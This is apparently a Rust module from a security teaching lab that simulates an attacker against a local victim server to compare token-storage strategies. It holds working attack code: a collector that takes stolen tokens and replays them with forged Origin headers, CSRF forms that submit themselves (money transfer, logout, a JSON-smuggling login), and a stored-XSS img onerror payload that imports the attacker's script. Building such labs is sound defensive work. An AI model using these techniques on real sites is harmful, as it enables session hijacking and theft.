//! The attacker: a host with scripts and forms, and a server that tries out what they bring.

use std::{
    sync::{
        Arc,
        atomic::{AtomicU32, Ordering},
    },
    time::Duration,
};

use api_types::{
    header::{REQUESTED_WITH, REQUESTED_WITH_KEYTURN},
    lab::{Evidence, Exchange, Found, Strategy, Threat, Who},
    paths,
};
use axum::{
    Router,
    body::{Body, Bytes, to_bytes},
    extract::{Path, Query, State},
    http::{
        Method, Request, StatusCode,
        header::{
            ACCESS_CONTROL_ALLOW_ORIGIN, AUTHORIZATION, CONTENT_TYPE, COOKIE, HOST, ORIGIN,
            USER_AGENT as AGENT,
        },
    },
    response::{Html, IntoResponse, Response},
    routing::{get, post},
};
use hyper::client::conn::http1;
use hyper_util::rt::TokioIo;
use serde::Deserialize;
use serde_json::{Value, json};
use tokio::{net::TcpStream, time::timeout};

use super::{
    Lab,
    plan::{self, CellId},
    recorder::Of,
    runs::{Person, Run},
    tutorial::{ACCESS_COOKIE, REFRESH_COOKIE, SESSION_COOKIE},
};

/// How the attacker's server calls itself: not to hide, but to be told apart in the evidence.
pub const USER_AGENT: &str = "mallory/1.0";

/// The largest answer that is read.
const ANSWER: usize = 16 * 1024;
/// The victim's server stands on the same machine.
const PATIENCE: Duration = Duration::from_secs(5);
/// So many pieces of loot are tried out.
const TRIED: usize = 12;

/// The scripts.
const SCRIPTS: [(&str, &str); 5] = [
    ("kit", include_str!("assets/attacks/kit.js")),
    (
        Threat::SingleExecutionTheft.slug(),
        include_str!("assets/attacks/single-execution-theft.js"),
    ),
    (
        Threat::PersistentTheft.slug(),
        include_str!("assets/attacks/persistent-theft.js"),
    ),
    (
        Threat::NewTokens.slug(),
        include_str!("assets/attacks/acquiring-new-tokens.js"),
    ),
    (
        Threat::Proxying.slug(),
        include_str!("assets/attacks/proxying.js"),
    ),
];

/// Everything that the attacker's host answers.
pub fn router(lab: &Arc<Lab>) -> Router {
    let host = Router::new()
        .route("/attacks/{file}", get(script))
        .route("/collect", post(collect))
        .route("/csrf", get(forgery))
        .with_state(Arc::clone(lab));
    lab.behind_its_door(host, &lab.sites.attacker)
}

/// Where the victim's server takes what, for each strategy. An attacker knows, because everybody can look.
#[derive(Debug, Clone)]
pub struct Doors {
    pub login: String,
    pub logout: String,
    pub refresh: String,
    pub transfer: String,
    pub me: String,
}

impl Doors {
    pub fn of(strategy: Strategy) -> Self {
        if strategy == Strategy::Keyturn {
            return Self {
                login: paths::LOGIN.into(),
                logout: paths::LOGOUT.into(),
                refresh: paths::REFRESH.into(),
                transfer: super::victim::TRANSFER.into(),
                me: paths::ME.into(),
            };
        }
        let door = |name: &str| format!("/weak/{}/{name}", strategy.slug());
        Self {
            login: door("login"),
            logout: door("logout"),
            refresh: door("refresh"),
            transfer: door("transfer"),
            me: door("me"),
        }
    }
}

/// The code of a cell's attack, for whoever reads the evidence.
pub fn code((strategy, threat): CellId) -> Option<String> {
    if let Some((_, script)) = SCRIPTS.iter().find(|(name, _)| *name == threat.slug()) {
        let (_, kit) = SCRIPTS[0];
        return Some(format!("{script}\n// kit.js\n{kit}"));
    }
    let someone = Person {
        email: "mallory@…".into(),
        password: "…".into(),
    };
    form(threat, strategy, "https://victim.example", "…", &someone)
}

async fn script(Path(file): Path<String>) -> Response {
    let found = SCRIPTS
        .iter()
        .find(|(name, _)| file.strip_suffix(".js") == Some(*name));
    match found {
        Some((_, script)) => (
            [
                (CONTENT_TYPE, "text/javascript; charset=utf-8"),
                // The victim's page imports it from another origin; an attacker has nothing against that.
                (ACCESS_CONTROL_ALLOW_ORIGIN, "*"),
            ],
            *script,
        )
            .into_response(),
        None => StatusCode::NOT_FOUND.into_response(),
    }
}

#[derive(Deserialize)]
struct Brought {
    found: Vec<Found>,
}

/// Takes what a script found, and tries it out before answering, so that the evidence is complete when the script ends.
async fn collect(State(lab): State<Arc<Lab>>, Query(of): Query<Of>, body: Bytes) -> StatusCode {
    let (Some(run), Some(cell)) = (of.run(&lab), of.cell()) else {
        return StatusCode::NOT_FOUND;
    };
    let Ok(Brought { found }) = serde_json::from_slice(&body) else {
        return StatusCode::BAD_REQUEST;
    };
    run.note(
        cell,
        Evidence::Loot {
            at_ms: lab.runs.now_ms(),
            found: found.clone(),
        },
    );
    // A task of its own: a page that goes away must not end what its script has begun.
    let tries = tokio::spawn(async move {
        let thief = Thief::new(&lab, &run, cell);
        for one in found.iter().filter(|one| is_promising(cell.0, one)).take(TRIED) {
            thief.try_out(&one.value).await;
        }
        let (requests, unanswered) = thief.tally();
        let at_ms = lab.runs.now_ms();
        run.note(
            cell,
            Evidence::Tried {
                at_ms,
                requests,
                unanswered,
            },
        );
    });
    match tries.await {
        Ok(()) => StatusCode::NO_CONTENT,
        Err(_) => StatusCode::INTERNAL_SERVER_ERROR,
    }
}

/// A compact JWS by its shape, or for a plain session any cookie.
fn is_promising(strategy: Strategy, found: &Found) -> bool {
    let plain = |part: &str| {
        part.len() >= 8
            && part
                .bytes()
                .all(|byte| byte.is_ascii_alphanumeric() || b"-_".contains(&byte))
    };
    let parts: Vec<&str> = found.value.split('.').collect();
    (parts.len() == 3 && parts.into_iter().all(plain))
        || (strategy == Strategy::SessionCookie && found.place == "document.cookie")
}

/// Copies of somebody's tokens, however they were come by.
#[derive(Debug, Clone, Default)]
pub struct Copies {
    pub access: Option<String>,
    pub refresh: Option<String>,
}

impl Copies {
    /// What the victim's server handed out last, as far as the evidence goes.
    pub fn of(lab: &Lab, strategy: Strategy, evidence: &[Evidence], who: Who) -> Self {
        let mut copies = Self::default();
        let answers = evidence.iter().filter_map(|one| match one {
            Evidence::Exchange(exchange) if exchange.who == who && exchange.status < 300 => Some(exchange),
            _ => None,
        });
        for answer in answers {
            copies.take(lab, strategy, answer);
        }
        copies
    }

    fn take(&mut self, lab: &Lab, strategy: Strategy, answer: &Exchange) {
        let body: Value = serde_json::from_str(&answer.answer).unwrap_or_default();
        let field = |name: &str| body.get(name).and_then(Value::as_str).map(str::to_owned);
        let cookie = |wanted: &str| {
            answer.answer_headers.iter().find_map(|(name, value)| {
                let value = value.strip_prefix(wanted)?.strip_prefix('=')?;
                let value = value.split(';').next()?;
                (name == "set-cookie" && !value.is_empty()).then(|| value.to_owned())
            })
        };
        let (access, refresh) = match strategy {
            Strategy::SessionCookie => (cookie(SESSION_COOKIE), cookie(SESSION_COOKIE)),
            Strategy::ReadableCookie => (cookie(ACCESS_COOKIE), cookie(REFRESH_COOKIE)),
            Strategy::Keyturn => (field("access_token"), cookie(&lab.ours.config.cookie_name)),
            _ => (field("access_token"), field("refresh_token")),
        };
        self.access = access.or(self.access.take());
        self.refresh = refresh.or(self.refresh.take());
    }
}

/// The attacker's server at work: a program, which may send whatever headers it likes.
#[derive(Debug)]
pub struct Thief<'a> {
    lab: &'a Lab,
    run: &'a Run,
    cell: CellId,
    requests: AtomicU32,
    unanswered: AtomicU32,
}

impl<'a> Thief<'a> {
    pub fn new(lab: &'a Lab, run: &'a Run, cell: CellId) -> Self {
        Self {
            lab,
            run,
            cell,
            requests: AtomicU32::new(0),
            unanswered: AtomicU32::new(0),
        }
    }

    /// How many requests were made, and how many of them got no answer.
    pub fn tally(&self) -> (u32, u32) {
        (
            self.requests.load(Ordering::Relaxed),
            self.unanswered.load(Ordering::Relaxed),
        )
    }

    /// Reads the victim's profile with something that may be an access token; failing that, treats it as a refresh token.
    pub async fn try_out(&self, value: &str) {
        if self.use_access(value).await != StatusCode::OK {
            self.use_refresh(value).await;
        }
    }

    /// Reads the victim's profile.
    pub async fn use_access(&self, token: &str) -> StatusCode {
        let header = match self.cell.0 {
            Strategy::SessionCookie => (COOKIE.as_str(), format!("{SESSION_COOKIE}={token}")),
            Strategy::ReadableCookie => (COOKIE.as_str(), format!("{ACCESS_COOKIE}={token}")),
            _ => (AUTHORIZATION.as_str(), format!("Bearer {token}")),
        };
        self.send(Method::GET, &Doors::of(self.cell.0).me, &[header], None)
            .await
    }

    /// Gets new tokens, and reads the victim's profile with them.
    pub async fn use_refresh(&self, token: &str) -> StatusCode {
        let strategy = self.cell.0;
        if strategy == Strategy::SessionCookie {
            return self.use_access(token).await;
        }
        let refresh = Doors::of(strategy).refresh;
        let status = match strategy {
            Strategy::Keyturn => {
                let cookie = format!("{}={token}", self.lab.ours.config.cookie_name);
                let headers = [
                    (COOKIE.as_str(), cookie),
                    (REQUESTED_WITH, REQUESTED_WITH_KEYTURN.to_owned()),
                ];
                self.send(Method::POST, &refresh, &headers, None).await
            }
            Strategy::ReadableCookie => {
                let cookie = format!("{REFRESH_COOKIE}={token}");
                self.send(Method::POST, &refresh, &[(COOKIE.as_str(), cookie)], None)
                    .await
            }
            _ => {
                let body = json!({ "refresh_token": token }).to_string();
                self.send(Method::POST, &refresh, &[], Some(body)).await
            }
        };
        if status == StatusCode::OK
            && let Some(access) = self.own().access
        {
            self.use_access(&access).await;
        }
        status
    }

    /// What the thief was given by the victim's server itself.
    pub fn own(&self) -> Copies {
        Copies::of(
            self.lab,
            self.cell.0,
            &self.run.evidence(self.cell),
            Who::Attacker,
        )
    }

    async fn send(
        &self,
        method: Method,
        path: &str,
        headers: &[(&str, String)],
        body: Option<String>,
    ) -> StatusCode {
        self.requests.fetch_add(1, Ordering::Relaxed);
        let answer = timeout(PATIENCE, self.exchange(method, path, headers, body)).await;
        answer.ok().and_then(Result::ok).unwrap_or_else(|| {
            self.unanswered.fetch_add(1, Ordering::Relaxed);
            let text = "The attacker’s server got no answer.".to_owned();
            let at_ms = self.lab.runs.now_ms();
            let who = Who::Attacker;
            self.run.note(self.cell, Evidence::Note { at_ms, who, text });
            StatusCode::BAD_GATEWAY
        })
    }

    /// A connection of its own to the victim's listener: names like `lab.localhost` mean nothing outside a browser.
    async fn exchange(
        &self,
        method: Method,
        path: &str,
        headers: &[(&str, String)],
        body: Option<String>,
    ) -> Result<StatusCode, Box<dyn std::error::Error + Send + Sync>> {
        let sites = &self.lab.sites;
        let stream = TcpStream::connect(sites.listen).await?;
        let (mut sender, connection) = http1::handshake(TokioIo::new(stream)).await?;
        let connection = tokio::spawn(connection);
        let address = format!("{path}?run={}&cell={}", self.run.id, plan::name_of(self.cell));
        let mut request = Request::builder()
            .method(method)
            .uri(address)
            .header(HOST, sites.victim.authority())
            .header(AGENT, USER_AGENT)
            // Browsers do not let a page lie about these; a program may.
            .header(ORIGIN, sites.victim.as_str())
            .header("sec-fetch-site", "same-origin");
        if body.is_some() {
            request = request.header(CONTENT_TYPE, "application/json");
        }
        for (name, value) in headers {
            request = request.header(*name, value);
        }
        let answer = sender
            .send_request(request.body(Body::from(body.unwrap_or_default()))?)
            .await?;
        let status = answer.status();
        to_bytes(Body::new(answer.into_body()), ANSWER).await?;
        connection.abort();
        Ok(status)
    }
}

/// A page of the attacker's that sends a form as soon as it is loaded.
async fn forgery(State(lab): State<Arc<Lab>>, Query(of): Query<Of>, Query(at): Query<At>) -> Response {
    let (Some(run), Some((strategy, threat))) = (of.run(&lab), of.cell()) else {
        return StatusCode::NOT_FOUND.into_response();
    };
    let place = format!(
        "run={}&cell={}&at={}",
        run.id,
        plan::name_of((strategy, threat)),
        at.at
    );
    let attacker = run.people.attacker(strategy);
    match form(threat, strategy, lab.sites.victim.as_str(), &place, &attacker) {
        Some(form) => Html(format!(
            "<!doctype html><meta charset=utf-8><title>Keyturn lab: the attacker’s page</title>\
             <p>The attacker’s page sends a form to the victim’s site.</p>{form}"
        ))
        .into_response(),
        None => StatusCode::NOT_FOUND.into_response(),
    }
}

#[derive(Deserialize)]
struct At {
    at: usize,
}

/// The form of a threat, as this strategy's server might accept it.
fn form(threat: Threat, strategy: Strategy, victim: &str, place: &str, attacker: &Person) -> Option<String> {
    let doors = Doors::of(strategy);
    let Person { email, password } = attacker;
    let field = |name: &str, value: &str| format!("<input type=hidden name='{name}' value='{value}'>");
    let (door, fields, enctype) = match threat {
        Threat::CsrfChange => (
            doors.transfer,
            field("amount", "100") + &field("to", "mallory"),
            None,
        ),
        Threat::CsrfLogout => (doors.logout, String::new(), None),
        // A server that wants JSON may take it from a form that looks like it.
        Threat::CsrfLogin if strategy == Strategy::Keyturn => {
            let name = format!(r#"{{"email":"{email}","password":"{password}","remember":true,"x":""#);
            (doors.login, field(&name, r#""}"#), Some("text/plain"))
        }
        Threat::CsrfLogin => (
            doors.login,
            field("email", email) + &field("password", password),
            None,
        ),
        _ => return None,
    };
    let enctype = enctype.map(|kind| format!(" enctype={kind}")).unwrap_or_default();
    Some(format!(
        "<form method=post{enctype} action=\"{victim}{door}?{place}\">{fields}</form><script>document.forms[0].submit()</script>"
    ))
}

/// What a stored comment looks like that brings a script of the attacker's into the victim's page.
pub fn comment(lab: &Lab, run: &Run, cell: CellId) -> String {
    let doors = Doors::of(cell.0);
    let address = format!(
        "{}/attacks/{}.js?run={}&cell={}&refresh={}",
        lab.sites.attacker,
        cell.1.slug(),
        run.id,
        plan::name_of(cell),
        doors.refresh
    );
    format!("<p>What a fine page.</p><img alt=\"\" src=\"data:,\" onerror=\"import('{address}')\">")
}
